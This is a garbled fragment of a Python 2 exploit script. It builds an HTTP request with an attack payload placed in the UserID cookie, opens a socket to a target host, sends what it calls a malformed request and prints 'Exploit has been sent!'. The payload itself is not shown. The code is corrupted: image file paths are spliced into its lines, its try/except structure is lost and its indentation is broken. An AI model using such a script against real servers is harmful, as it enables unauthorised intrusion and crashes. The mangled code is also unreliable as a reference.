buf+="Host:" + host + ":" + str(port) + "\r\n"buf+="Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
buf+="Accept-Language: en-us\r\n"
buf+="Accept-Encoding: gzip, deflate\r\n"
buf+="Referer: http://" + host + "/\r\n"
buf+="Cookie: SESSIONID=1337; UserID=" + payload + "; PassWD=;\r\n"
buf+="Conection: Keep-Alive\r\n\r\n"

print "[*] Connecting to Host " + host + "..."

s=socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    connect=s.connect((host, port))
    print "[*] Connected to " + host + "!"
    print "[!] "+ host + " didn't respond\n"

print "[*] Sending malformed request..."print "[!] Exploit has been sent!\n"